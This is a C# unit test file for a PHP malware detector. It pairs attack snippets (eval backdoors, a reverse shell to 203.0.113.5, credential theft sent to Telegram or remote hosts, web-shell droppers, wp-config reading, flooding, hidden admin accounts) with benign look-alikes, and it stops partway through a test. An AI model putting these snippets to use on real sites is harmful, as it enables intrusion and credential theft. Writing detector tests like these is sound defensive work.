using System.IO.Compression;
using Colophon.Php.Analysis;

namespace Colophon.Php.Tests.Analysis;

/// <summary>For each deed of attackers a harmless look-alike that is found, and beside it the honest code that comes nearest and is left alone.</summary>
public sealed class AttackTests
{
    [Theory]
    [InlineData("malware_obfuscated", "<?php $x = ~$hidden; $x($_POST['r']);", "<?php $x = ~$mask; echo $x & 7;")]
    [InlineData("malware_obfuscated", "<?php $m = word(); (substr($m, 0, 3) . substr($m, 4))($_GET['a']);", "<?php $get = 'get_' . $type; echo (string) $get;")]
    [InlineData("malware_obfuscated", "<?php $t = 'sewtemznypianol'; $n = $t[0] . $t[8] . $t[0] . $t[3] . $t[1] . $t[5]; echo $n;", "<?php $t = 'sewtemznypianol'; $n = $t[0] . $t[1] . $t[2] . $t[3]; echo $n;")]
    [InlineData("malware_obfuscated", "<?php class T { static function k($w) { $r = ''; for ($i = 0; $i < strlen($w); $i++) { $r .= chr(ord($w[$i]) ^ 3); } return $r; } } echo T::k('a') . T::k('b') . T::k('c') . T::k('d') . T::k('e') . T::k('f') . T::k('g') . T::k('h') . T::k('i') . T::k('j') . T::k('k') . T::k('l') . T::k('m') . T::k('n') . T::k('o');", "<?php function k($w) { $r = ''; for ($i = 0; $i < strlen($w); $i++) { $r .= chr(ord($w[$i]) ^ 3); } return $r; } echo k('a') . k('b') . k($c);")]
    [InlineData("malware_obfuscated", "<?php echo z(1) + z(2) - z(3); echo z(4) + z(5) + z(6); echo z(7) - z(8) + z(9); echo z(1) + z(5) + z(9);", "<?php echo width(1) + width(2); echo width(3) + $gap + width(4);")]
    [InlineData("malware_obfuscated", "<?php $a = 'ht' . 'tp:' . '//' . 'ex' . 'amp' . 'le.' . 'or' . 'g/x';", "<?php $a = '<td>' . $x . '</td>' . \"\\n\" . '<td>' . $y . '</td>' . \"\\n\";")]
    [InlineData("malware_obfuscated", "<?php $g = $GLOBALS['x']; $g[1]($g[3]);", "<?php $hook[0]($args[1]); echo $hook[1];")]
    [InlineData("malware_backdoor", "<?php if (isset($_POST['c'])) { $_POST['c'] .= ' 2>&1'; }", "<?php exec('git status 2>&1', $out);")]
    [InlineData("malware_backdoor", "<?php run($_POST['c'] . ' 2>&1');", "<?php run(escapeshellarg($file) . ' 2>&1');")]
    [InlineData("malware_backdoor", "<?php @eval_r($_POST['x']);", "<?php eval_row($_POST['x']);")]
    [InlineData("malware_backdoor", "<?php $all = array($_POST['x']); array_udiff($all, array(1), $e);", "<?php $all = array($_POST['x']); $by = function ($a, $b) { return $a - $b; }; array_udiff($all, array(1), $by);")]
    [InlineData("malware_backdoor", "<?php proc_open(array($_POST['c']), array(), $pipes);", "<?php proc_open(array('ls', $_POST['c']), array(), $pipes);")]
    [InlineData("malware_backdoor", "<?php if (openssl_public_decrypt(base64_decode($_POST['c']), $plain, $key)) { eval($plain); }", "<?php if (openssl_public_decrypt(base64_decode($_POST['c']), $plain, $key)) { echo md5($plain); }")]
    [InlineData("malware_hidden_code", "<?php foreach (file(__FILE__) as $l) { $n .= chr(strlen($l)); $c .= chr(strlen(trim($l))); } $f = $n('', $c); $f();", "<?php foreach (file(__FILE__) as $l) { $n .= chr(strlen($l)); } echo $n;")]
    [InlineData("malware_obfuscated", "<?php eval((((1).(2)){0}|((1).(5)){0}).(((3).(1)){0}&((7).(1)){0}).(((1).(2)){1}|((1).(5)){1}));", "<?php eval('return ' . (((1) | (2)) & ((3) | (4)) & ((5) | (6)) & ((7) | (8)) & ((9) | (10))) . ';');")]
    [InlineData("malware_dropper", "<?php $f = fopen('note.php', 'w'); fwrite($f, '<? $_=\"a\";$__=${$_}[\"k\"];eval($__);?>');", "<?php $f = fopen('note.php', 'w'); fwrite($f, '<?php return array();');")]
    [InlineData("malware_backdoor", "<?php ini_set('auto_prepend_file', 'php://input');", "<?php ini_set('auto_prepend_file', '');")]
    [InlineData("malware_backdoor", "<?php while (1) { pcntl_fork(); }", "<?php while (1) { if (pcntl_fork() > 0) { pcntl_wait($s); } }")]
    [InlineData("malware_backdoor", "<?php function f($s) { return strrev($s); } ?>\n@eval(f($_POST['x'])); eval($_POST['y']);", "<?php echo 1; ?>\n<p>What eval() does with $_POST['x'] is up to you.</p>")]
    [InlineData("malware_backdoor", "<?php chmod($_GET['path'], 0777);", "<?php chmod(UPLOADS . '/' . $name, 0644);")]
    [InlineData("malware_backdoor", "<?php symlink('/home/' . $user . '/public_html/wp-config.php', 'x.txt');", "<?php symlink($release, 'current');")]
    [InlineData("malware_backdoor", "<?php $s = imap_open($_POST['file'], '', ''); echo imap_body($s, 1);", "<?php $s = imap_open('{mail.example.com:993/imap/ssl}INBOX', $user, $password);")]
    [InlineData("malware_backdoor", "<?php exec('/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.5/99 0>&1\"');", "<?php exec('bash ./build.sh', $out);")]
    [InlineData("malware_backdoor", "<?php class A { function page() { $open = @$_COOKIE['c3']; if ($open) { $m = $open(@$_COOKIE['c2']); } } }", "<?php class A { function page() { $name = 'show_' . sanitize_key($_GET['tab']); if (method_exists($this, $name)) { $this->$name($_GET['id']); } } }")]
    [InlineData("malware_hidden_code", "<?php $t = file_get_contents(__FILE__); eval(substr($t, strpos($t, '#') + 1));", "<?php $t = file_get_contents(__FILE__); echo strlen($t);")]
    [InlineData("malware_hidden_code", "<?php function open($t, $k) { return unpack('V', $t . $k); } eval(open(base64_decode($packed), 'k'));", "<?php function open($t, $k) { return unpack('V', $t . $k); } echo open(base64_decode($packed), 'k');")]
    [InlineData("malware_hidden_code", "<?php $e = $_POST['c']; preg_replace('/' . md5($x) . '/' . 'e', $e, 'x');", "<?php $e = $_POST['c']; echo preg_replace('/' . preg_quote($x, '/') . '/i', '', $e);")]
    [InlineData("malware_hidden_code", "<?php $bad = array(\"^66.135.200.*\", \"^91.103.66.*\", \"^208.91.115.*\", \"^199.30.228.*\", \"^66.102.*.*\", \"^38.100.*.*\", \"^107.170.*.*\", \"^149.20.*.*\", \"^38.105.*.*\", \"^74.125.*.*\"); foreach ($bad as $b) { if (preg_match('/' . $b . '/', $_SERVER['REMOTE_ADDR'])) { header('HTTP/1.0 404 Not Found'); exit; } }", "<?php $own = array('10.*.*.*', '192.168.*.*', '172.16.*.*'); foreach ($own as $o) { if (fnmatch($o, $_SERVER['REMOTE_ADDR'])) { echo 'inside'; } }")]
    [InlineData("malware_hidden_code", "<?php include 'Bots/anti1.php'; include 'Bots/anti2.php'; include 'Bots/blocker.php'; ?><form></form>", "<?php include 'inc/header.php'; include 'inc/robots.php'; include 'inc/detector.php'; ?><form></form>")]
    [InlineData("malware_hidden_code", "<?php echo \"<script>document.location='secure.php?c='+document.cookie;</script>\";", "<?php echo \"<script>if (document.cookie.indexOf('seen') < 0) { location.href = 'welcome.php'; }</script>\";")]
    [InlineData("malware_hidden_code", "<script src='https://cdn.example.net/free.js?v=2' type='text/javascript'></script><?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';", "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';")]
    [InlineData("malware_hidden_code", "<?php function run($f, $a) { return $f($a); } run('system', base64_decode($x));", "<?php function handler($name, $module) { $class = $module . '_' . $name; $make = $module; return $make($class); } handler('block', 'system');")]
    [InlineData("malware_dropper", "<?php $shell = '<?php @eval($_REQUEST[\"x\"]);'; echo strlen($shell);", "<?php $example = '<?php echo esc_html($_GET[\"x\"]);'; echo strlen($example);")]
    [InlineData("malware_dropper", "<?php $f = fopen('x.php', 'w'); fwrite($f, '<html><?php if ($_FILES) { $f = $_FILES[\"u\"]; move_uploaded_file($f[\"tmp_name\"], $f[\"name\"]); } ?>');", "<?php $f = fopen('x.php', 'w'); fwrite($f, '<html><?php echo 1; ?>');")]
    [InlineData("malware_dropper", "<?php $f = fopen('jo/.htaccess', 'w'); fwrite($f, file_get_contents('http://example.com/h'));", "<?php $f = fopen('jo/list.json', 'w'); fwrite($f, file_get_contents('http://example.com/h'));")]
    [InlineData("malware_dropper", "<?php echo keep('http://example.com/themes/a.txt'); function keep($u) { $t = file_get_contents('http://' . $u); file_put_contents(basename($u), $t); }", "<?php echo keep('http://example.com/themes/a.zip'); function keep($u) { $t = file_get_contents('http://' . $u); file_put_contents(basename($u), $t); }")]
    [InlineData("malware_dropper", "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, $_GET['url']); $d = curl_exec($c); file_put_contents($_GET['path'] . '.php', $d); include $_GET['path'] . '.php';", "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, $_GET['url']); $d = curl_exec($c); echo strlen($d);")]
    [InlineData("malware_uploader", "<?php copy($_POST['from'], $_POST['dir'] . '/index.html');", "<?php copy($template, $_POST['dir'] . '/index.html');")]
    [InlineData("malware_uploader", "<?php foreach ($_FILES as $f) { copy($f['tmp_name'], $f['name']); }", "<?php foreach ($_FILES as $f) { echo $f['size']; }")]
    [InlineData("malware_webshell", "<?php foreach (explode(\"\\n\", $_POST['list']) as $word) { if (@ftp_login($c, $_POST['user'], trim($word))) { echo $word; } }", "<?php foreach ($servers as $server) { ftp_login($c, $server['user'], $server['password']); }")]
    [InlineData("malware_webshell", "<?php for ($port = 1; $port < 1024; $port++) { if (@fsockopen($_GET['host'], $port, $n, $s, 1)) { echo $port; } }", "<?php foreach (array(25, 587) as $port) { if (@fsockopen('mail.example.com', $port, $n, $s, 1)) { echo $port; } }")]
    [InlineData("malware_webshell", "<?php while (time() < $end) { $s = fsockopen('udp://' . $_GET['host'], rand(1, 65000)); fwrite($s, $much); }", "<?php $s = fsockopen('udp://time.example.com', 123); fwrite($s, $packet);")]
    [InlineData("malware_webshell", "<?php $uname = @php_uname(); $safe = ini_get('safe_mode'); echo $uname . $safe;", "<?php function facts() { $uname = php_uname(); return $uname . ini_get('safe_mode'); }")]
    [InlineData("malware_webshell", "<?php mail($_GET['to'], 'An invitation', $text); echo 'sent';", "<?php mail($_POST['email'], 'Thanks', $text); mail('office@example.com', 'A question', $_POST['text']);")]
    [InlineData("malware_webshell", "<?php $lines = explode(\"\\n\", $_POST['emails']); for ($i = 0; $i < count($lines); $i++) { $m->AddAddress($lines[$i]); $m->Send(); }", "<?php check(current_user_can('manage_options')); $lines = explode(\"\\n\", $_POST['emails']); for ($i = 0; $i < count($lines); $i++) { $m->AddAddress($lines[$i]); }")]
    [InlineData("malware_webshell", "<?php mail('a@example.com', 'x', $_SERVER['DOCUMENT_ROOT'] . $_SERVER['SERVER_ADDR'] . $_SERVER['SCRIPT_FILENAME'] . $_SERVER['SERVER_SOFTWARE']);", "<?php mail('a@example.com', 'x', $_SERVER['DOCUMENT_ROOT'] . $_SERVER['SERVER_ADDR']);")]
    [InlineData("malware_webshell", "<?php $db = new mysqli($_POST['host'], $_POST['user'], $_POST['pass']); $r = $db->query($_POST['sql']); print_r($r);", "<?php $db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD); $r = $db->query('SELECT 1'); print_r($r);")]
    [InlineData("malware_webshell", "<?php file_put_contents('l.txt', $_POST['u'] . ':' . $_POST['p'], FILE_APPEND); header('Location: https://www.example.com');", "<?php file_put_contents('l.txt', $_POST['u'] . ':' . $_POST['p'], FILE_APPEND); header('Location: thanks.php');")]
    [InlineData("malware_webshell", "<?php $t = 'Mail: ' . $_POST['email'] . ' ' . $_POST['password']; file_get_contents('https://api.telegram.org/bot1:x/sendMessage?text=' . urlencode($t));", "<?php $t = 'Mail: ' . $_POST['email'] . ' ' . $_POST['question']; file_get_contents('https://api.telegram.org/bot1:x/sendMessage?text=' . urlencode($t));")]
    [InlineData("malware_webshell", "<form action=1.php method=post><input name=u value='<?php echo $_GET['email']; ?>'><input type=password name=p></form>", "<?php require 'wp-load.php'; ?><form action=1.php method=post><input name=u value='<?php echo esc_attr($_GET['email']); ?>'><input type=password name=p></form>")]
    [InlineData("malware_webshell", "<html><title>Win MOF Shell</title><?php echo $_POST['x']; ?></html>", "<html><title>Windows PowerShell in short</title><?php echo esc_html($_POST['x']); ?></html>")]
    [InlineData("malware_spam", "<html><head><title>.:: Hacked by Somebody ::.</title></head><body></body></html>", "<html><head><title>What to do when your site was hacked</title></head><body></body></html>")]
    [InlineData("malware_spam", "<script>var s=document.referrer; if(s.indexOf(\"google\")>0 || s.indexOf(\"baidu\")>0) location.href=\"http://example.com\";</script>", "<script>var s=document.referrer; if(s.indexOf(\"google\")>0) location.href=\"/welcome\";</script>")]
    [InlineData("malware_spam", "<?php if (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'])) { header('Location: http://example.com/x'); exit; }", "<?php if (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'])) { count_visit('search'); }")]
    [InlineData("malware_login", "<?php file_put_contents('log.txt', 'Account: ' . $_POST['username'] . ' Pass: ' . $_POST['password'] . \"\\n\", FILE_APPEND); header('Location: next.php');", "<?php file_put_contents('log.txt', 'Account: ' . $_POST['username'] . ' Pass: ' . md5($_POST['password']) . \"\\n\", FILE_APPEND); header('Location: next.php');")]
    [InlineData("malware_login", "<?php $f = fopen('otp.txt', 'a'); fwrite($f, $_POST['otp']);", "<?php $f = fopen('config.php', 'w'); fwrite($f, '<?php $dbpass = ' . var_export($_POST['password'], true) . ';');")]
    [InlineData("malware_login", "<?php add_action('wp_login', function () { wp_remote_post('http://example.com/l', array('body' => array('p' => $_POST['pwd']))); });", "<?php add_action('wp_login', function () { wp_remote_post('http://example.com/l', array('body' => array('p' => $_POST['cf-turnstile-response']))); });")]
    [InlineData("malware_login", "<?php add_action('pre_user_query', 'hide'); function hide($q) { $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND user_login != 'ghost'\", $q->query_where); }", "<?php add_action('pre_user_query', 'order'); function order($q) { $q->query_where .= ' AND user_status = 0'; }")]
    [InlineData("malware_webshell", "<?php $r = file_get_contents('https://zone-h.org/notify/single?d=' . $_POST['d']);", "<?php echo 'See zone-h.org for lists of defaced sites';")]
    [InlineData("malware_obfuscated", "<?php function _a4b() { } $_ez5o7dd6 = $_ox7rq8qik = $_bm4v7jv8c = $_l5xkt6amel = $_da8pc2i6 = $_74096cmv9a = $_76bu8uwhz = $_k1sx7bg07 = 1;", "<?php $_param1 = $_param2 = $_param3 = $_param4 = $_param5 = $_param6 = $_param7 = $_param8 = 1;")]
    [InlineData("malware_backdoor", "<?php namespace A\\B; function go($f, $with) { call_user_func_array($f, $with); } go('assert', array($_POST['a']));", "<?php namespace A\\B; function go($f, $with) { call_user_func_array($f, $with); } go('trim', array($_POST['a']));")]
    [InlineData("malware_webshell", "<?php $title = 'webshell 2'; if ($_POST) { @ini_set('x', 1); chmod($a, 1); scandir($b); unlink($c); move_uploaded_file($d, $e); } echo 1; echo 2;", "<?php $title = 'files 2'; if ($_POST) { @ini_set('x', 1); chmod($a, 1); scandir($b); unlink($c); } echo 1; echo 2;")]
    [InlineData("malware_hidden_code", "<?php require_once $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/2020/01/logo.png';", "<?php $logo = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/2020/01/logo.png'; readfile($logo);")]
    [InlineData("malware_backdoor", "<?php @include('/dev/shm/a/x.php');", "<?php if (file_exists('/tmp/wordpress/wp-content/plugins/a/a.php')) { require '/tmp/wordpress/wp-content/plugins/a/a.php'; }")]
    [InlineData("malware_dropper", "<?php $c = base64_decode('PD9waHAgZWNobyBmKCk7IC8vIGEgcGFnZSB0aGF0IG5vYm9keSByZWFkcw=='); file_put_contents('a/b.php', $c);", "<?php $c = chr(60) . \"?php\\n// generated, an empty file of a language\\n\"; file_put_contents('a/b.php', $c);")]
    [InlineData("malware_backdoor", "<?php @include('/tmp/.sess_x');", "<?php echo file_get_contents('/tmp/report.txt');")]
    [InlineData("malware_backdoor", "<?php include 'zip://' . $_GET['f'] . '#x';", "<?php $z = fopen('zip://' . $archive . '#readme.txt', 'r'); echo fgets($z);")]
    [InlineData("malware_backdoor", "<?php readfile('../../../wp-config.php');", "<?php readfile('../../../readme.html');")]
    [InlineData("malware_backdoor", "<?php $f = $_SERVER['DOCUMENT_ROOT'] . '/wp-config.php'; echo file_get_contents($f);", "<?php $c = file_get_contents(ABSPATH . 'wp-config.php'); echo strlen($c);")]
    [InlineData("malware_backdoor", "<?php ini_set('unserialize_callback_func', 'system'); unserialize($_GET['c']);", "<?php ini_set('unserialize_callback_func', 'load_class'); unserialize($stored);")]
    [InlineData("malware_backdoor", "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '0.0.0.0', 99); socket_listen($s); $c = socket_accept($s); while ($l = socket_read($c, 99)) { socket_write($c, `$l`); }", "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '127.0.0.1', 99); socket_listen($s); $c = socket_accept($s); socket_write($c, 'hello');")]
    [InlineData("malware_backdoor", "<?php $p = '/tmp/' . md5(rand()); file_put_contents($p, $_POST['x']); require $p;", "<?php $p = '/tmp/' . md5(rand()); file_put_contents($p, $_POST['x']); unlink($p);")]
    [InlineData("malware_backdoor", "<?php if (isset($_REQUEST['k']) && $_REQUEST['k'] == 'x') { @extract($_REQUEST); @die($one($two)); }", "<?php if (isset($_REQUEST['k'])) { extract(array('one' => 1)); die($one); }")]
    [InlineData("malware_backdoor", "<?php chdir('a'); ini_set('open_basedir', '..'); chdir('..'); chdir('..'); ini_set('open_basedir', '/');", "<?php chdir('a'); echo ini_get('open_basedir');")]
    [InlineData("malware_uploader", "<?php $z = new ZipArchive; $z->open($_FILES['z']['tmp_name']); $z->extractTo('./');", "<?php $z = new ZipArchive; $z->open('release.zip'); $z->extractTo('./');")]
    [InlineData("malware_uploader", "<?php rename($_FILES['x']['tmp_name'], $_FILES['x']['name']);", "<?php rename('a.tmp', 'a.txt');")]
    [InlineData("malware_uploader", "<?php $f = new SplFileObject($_POST['n'], 'w'); $f->fwrite($_POST['c']);", "<?php $f = new SplFileObject('log.txt', 'w'); $f->fwrite('x');")]
    [InlineData("malware_uploader", "<?php function all($d) { foreach (scandir($d) as $f) { file_put_contents(\"$d/$f/index.html\", $_POST['html']); all(\"$d/$f\"); } } all($_POST['dir']);", "<?php function all($d) { foreach (scandir($d) as $f) { file_put_contents(\"$d/$f/index.html\", ''); } } all('uploads');")]
    [InlineData("malware_dropper", "<?php foreach (glob('*.js') as $f) { file_put_contents($f, \"var s=document.createElement('script');s.src='//example.net/a.js';\" . file_get_contents($f)); }", "<?php foreach (glob('*.js') as $f) { file_put_contents($f, \"/* built */\\n\" . file_get_contents($f)); }")]
    [InlineData("malware_login", "<?php global $wpdb; $wpdb->query(\"INSERT INTO wp_users (user_login, user_pass) VALUES ('a', MD5('a'))\"); $wpdb->query(\"INSERT INTO wp_usermeta VALUES (9, 'wp_capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\");", "<?php global $wpdb; $wpdb->query(\"INSERT INTO wp_visits (day, n) VALUES (CURDATE(), 1)\");")]
    [InlineData("malware_webshell", "<?php $d = base64_encode(json_encode($_POST)); $c = curl_init('https://example.com/g'); curl_setopt($c, CURLOPT_POSTFIELDS, 'd=' . $d); curl_exec($c);", "<?php $d = http_build_query(array('cmd' => '_notify-validate') + $_POST); $c = curl_init('https://example.com/ipn'); curl_setopt($c, CURLOPT_POSTFIELDS, $d); curl_exec($c);")]
    [InlineData("malware_webshell", "<?php $c = curl_init($_GET['url']); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($c);", "<?php $c = curl_init('https://api.example.com/' . rawurlencode($_GET['id'])); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($c);")]
    [InlineData("malware_spam", "<?php $bots = array('googlebot', 'bingbot'); foreach ($bots as $b) { if (strpos($_SERVER['HTTP_USER_AGENT'], $b) !== false) { echo 'x'; exit; } } header('Location: http://example.com/x');", "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { header('Location: /sitemap.xml'); }")]
    [InlineData("malware_spam", "<?php $r = $_SERVER['HTTP_REFERER']; if (strstr($r, 'google') || strstr($r, 'bing')) { echo '<script>window.location=\"http://example.com\"</script>'; }", "<?php $r = $_SERVER['HTTP_REFERER']; if (strstr($r, 'google') || strstr($r, 'bing')) { echo '<p>Welcome</p>'; }")]
    [InlineData("malware_spam", "<html><body><center><font color=red size=7>HACKED BY SOME TEAM</font></center></body></html>", "<html><body><p>Was your site hacked? Read on by all means.</p></body></html>")]
    [InlineData("malware_backdoor", "<?php $t = tmpFile(); $m = Stream_Get_Meta_Data($t); $p = $m['uri']; fprintf($t, '%s', $r); include($p);", "<?php $t = tmpfile(); $m = stream_get_meta_data($t); $p = $m['mode']; echo $p; include 'a.php';")]
    [InlineData("malware_backdoor", "<?php $a = @unserialize(own(base64_decode($x))); if ($a['t'] == 'e') { eval($a['d']); }", "<?php $a = @unserialize($x); if ($a['t'] == 'e') { echo $a['d']; }")]
    [InlineData("malware_uploader", "<?php $f[3]($_FILES['u']['tmp_name'], $to);", "<?php $f[3]($_FILES['u']['size'], $to);")]
    [InlineData("malware_backdoor", "<?php foreach (scandir('.') as $n) { $n = explode('.', $n)[0]; rename($n . '.php.suspected', $n . '.php'); }", "<?php rename($n . '.php', $n . '.php.suspected');")]
    [InlineData("malware_webshell", "<?php foreach ($words as $w) { $c = curl_init($u); curl_setopt($c, CURLOPT_USERPWD, \"admin:$w\"); curl_exec($c); }", "<?php foreach ($pages as $p) { $c = curl_init($p); curl_setopt($c, CURLOPT_USERPWD, \"$user:$key\"); curl_exec($c); }")]
    [InlineData("malware_webshell", "<?php $h = $_GET['ip']; while (1) { if (time() > $end) { break; } $s = fsockopen($h, 80); fwrite($s, 'x'); }", "<?php while (1) { $s = fsockopen('queue.example.com', 80); if (!$s) { break; } sleep(5); }")]
    [InlineData("malware_backdoor", "<?php exec('./httpd > /dev/null &');", "<?php exec('./vendor/bin/tool --check', $out);")]
    [InlineData("malware_dropper", "<?php file_put_contents('a.html', base64_decode('PGhlYWQ+PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDtVUkw9aHR0cDovL2V4YW1wbGUuY29tLyI+PC9oZWFkPg=='));", "<?php file_put_contents('a.html', base64_decode('PGhlYWQ+PG1ldGEgY2hhcnNldD0idXRmLTgiPjwvaGVhZD4='));")]
    [InlineData("malware_hidden_code", "<?php $a = \"<s\"; $b = \"cript src='http\"; $c = \"s://example.net/a.js'></s\"; echo $a . $b . $c . \"cript>\";", "<?php $a = \"<script src='https://example.net/a.js'>\"; echo $a . \"</script>\";")]
    [InlineData("malware_hidden_code", "<?php function own($t, $k) { $i = 0; do { $t[$i] = chr((ord($t[$i]) - ord($k[$i])) % 256); $i++; } while ($i < strlen($t)); return $t; } $b = own($data, $key); $f = create_function('', $b); $f();", "<?php function own($t, $k) { return chr(ord($t) - ord($k)); } $b = own($data, $key); echo $b;")]
    [InlineData("malware_spam", "<?php $l = file_get_contents('http://www.google.com/safebrowsing/diagnostic?site=' . $_SERVER['HTTP_HOST']); if (strpos($l, 'listed')) { exit; }", "<?php $l = file_get_contents('http://www.google.com/search?q=' . $_SERVER['HTTP_HOST']);")]
    [InlineData("malware_spam", "<?php $l = gethostbyname($_SERVER['HTTP_HOST'] . '.dbl.spamhaus.org'); if ($l == '127.0.1.2') { exit; }", "<?php $l = gethostbyname($address . '.zen.spamhaus.org'); if ($l == '127.0.0.2') { exit; } mail('a@example.com', $_SERVER['HTTP_HOST'], $text);")]
    [InlineData("malware_backdoor", "<?php echo \"->|\"; $u = posix_getpwuid(posix_geteuid()); echo php_uname() . $u['name']; echo \"|<-\"; die;", "<?php echo \"->|\"; echo $row; echo \"|<-\";")]
    [InlineData("malware_webshell", "<?php $c = curl_init('http://www.bing.com/search?q=ip%3A' . $i); echo curl_exec($c);", "<?php $c = curl_init('http://www.bing.com/search?q=' . $i); $r = curl_exec($c);")]
    [InlineData("malware_webshell", "<?php $ip = getenv(\"REMOTE_ADDR\"); $e = $_POST[\"user\"]; $p = $_POST[\"pass\"]; $m = \"Email : $e Pass : $p $ip\"; mail($to, \"x\", $m, \"y\"); header(\"location: next.php\");", "<?php $ip = getenv(\"REMOTE_ADDR\"); $e = $_POST[\"user\"]; $p = $_POST[\"text\"]; $m = \"Email : $e Text : $p $ip\"; mail($to, \"x\", $m, \"y\"); header(\"location: next.php\");")]
    public void What_attackers_do_is_found_and_its_honest_neighbour_left_alone(string kind, string attack, string honest)
    {
        var finding = Assert.Single(Code.Analyse(("x.php", attack)).Findings, f => f.Kind == kind);
        Assert.Equal(FindingCategory.Malware, finding.Category);
        Assert.NotEmpty(finding.Trace[0].What);
        Assert.DoesNotContain(Code.Analyse(("x.php", honest)).Findings, Code.IsAttack);
    }

    [Fact]
    public void A_table_of_characters_is_no_text_written_as_numbers()
    {
        static string Escaped(string text) => string.Concat(text.Select(c => $"\\x{(int)c:X2}"));
        var words = string.Concat(Enumerable.Range(0, 30).Select(n => $"\"{Escaped("word" + (char)('a' + (n % 26)))}\", "));
        var table = string.Concat(Enumerable.Range(0, 200).Select(n => $"\"\\xC3\\x{0x80 + (n % 64):X2}\" => \"{Escaped(((char)('A' + (n % 26))).ToString())}\", "));
        Assert.Contains(Code.Analyse(("x.php", $"<?php $t = [{words}];")).Findings, f => f.Kind == "malware_obfuscated");
        Assert.Contains(Code.Analyse(("x.php", $"<?php $t = [{words}{string.Concat(Enumerable.Repeat("\"a\\n\", ", 60))}];")).Findings, f => f.Kind == "malware_obfuscated");
        Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php return [{table}{words}];")).Findings, f => f.Category == FindingCategory.Malware);
    }

    [Theory]
    [InlineData("eval($_POST['c']);", "print_r($_POST['c']);")]
    [InlineData("use Socket; socket(SOCKET, 1, 2, 3); exec('/bin/sh -i');", "use Socket; socket(SOCKET, 1, 2, 3); print 'hello';")]
    [InlineData("<!--#exec cmd=\"$QUERY_STRING\" -->", "<!--#include file=\"footer.html\" -->")]
    public void What_is_packed_in_a_text_is_looked_into(string attack, string honest)
    {
        foreach (var (made, turned) in new[] { (0, false), (1, false), (2, false), (0, true) })
        {
            Assert.Contains(Carrying(attack, made, turned), f => f.Kind == "malware_hidden_code");
            Assert.DoesNotContain(Carrying(honest, made, turned), f => f.Category == FindingCategory.Malware);
        }

        static IEnumerable<Finding> Carrying(string text, int made, bool turned)
        {
            var into = new MemoryStream();
            using (Stream packing = made switch { 0 => new DeflateStream(into, CompressionLevel.Optimal), 1 => new ZLibStream(into, CompressionLevel.Optimal), _ => new GZipStream(into, CompressionLevel.Optimal) })
            {
                var random = new Random(3);
                packing.Write(System.Text.Encoding.ASCII.GetBytes(text + " " + string.Concat(Enumerable.Range(0, 200).Select(_ => (char)random.Next('a', 'z')))));
            }
            var packed = Convert.ToBase64String(into.ToArray());
            if (turned) { packed = string.Concat(packed.Select(c => char.IsAsciiLetter(c) ? (char)(c < 'a' ? 'A' + ((c - 'A' + 13) % 26) : 'a' + ((c - 'a' + 13) % 26)) : c)); }
            return Code.Analyse(("x.php", $"<?php $tool = '{packed}';")).Findings;
        }
    }

    [Fact]
    public void A_long_text_that_begins_as_a_back_door_is_found()
    {
        Assert.Contains(Code.Analyse(("x.php", $"<?php $t = '<?PHP @eval(base64_decode(\"{new string('A', 5_000)}\"));';")).Findings, f => f.Kind == "malware_dropper");
        Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php $t = '<?PHP echo base64_decode(\"{new string('A', 5_000)}\");';")).Findings, f => f.Category == FindingCategory.Malware);
    }

    [Theory]
    [InlineData("ZWNo", true)]
    [InlineData("<td>", false)]
    public void A_long_text_of_crumbs_is_found_and_a_page_written_line_by_line_is_not(string crumb, bool found)
    {
        var text = string.Concat(Enumerable.Repeat($"$z .= \"{crumb}\";\n", 400));
        Assert.Equal(found, Code.Analyse(("x.php", $"<?php $z = '';\n{text}echo strlen($z);")).Findings.Any(f => f.Kind == "malware_obfuscated"));
    }

    [Fact]
    public void A_page_that_is_hidden_in_the_file_that_shows_it_is_found()
    {
        var page = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes("<html><body>" + new string('x', 1_200) + "<form></form></body></html>"));
        Assert.Contains(Code.Analyse(("x.php", $"<?php echo base64_decode('{page}');")).Findings, f => f.Kind == "malware_hidden_code");
        Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php echo base64_decode('{Convert.ToBase64String(new byte[1_200])}');")).Findings, f => f.Category == FindingCategory.Malware);
    }

    [Fact]
    public void A_file_hidden_in_another_that_runs_commands_is_found()
    {
        var packed = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes("print 1; " + new string('x', 300)));
        Assert.Contains(Code.Analyse(("x.php", $"<?php $t = base64_decode('{packed}'); file_put_contents('/tmp/b', $t); exec('chmod 700 /tmp/b');")).Findings, f => f.Kind == "malware_dropper");
        Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php $t = base64_decode('{packed}'); file_put_contents('/tmp/b', $t); echo 1;")).Findings, f => f.Category == FindingCategory.Malware);
    }

    [Fact]
    public void A_library_that_only_declares_is_no_tool_whatever_it_can_do()
    {
        const string Library = "if (!defined('A')) { define('A', 1); } if (!defined('B')) { define('B', 2); } if (!defined('C')) { define('C', 3); } define('D', 4);";
        const string Body = "class T { function f($c) { @ini_set('x', 1); set_time_limit(0); if (ini_get('safe_mode')) { return; } exec('ls /etc/passwd'); shell_exec('whoami'); chmod($c, 1); unlink($c); scandir($c); symlink($c, 'x'); posix_getuid(); php_uname(); fsockopen('x', 1); base64_decode('x'); } }";
        Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php {Library} {Body}")).Findings, f => f.Category == FindingCategory.Malware);
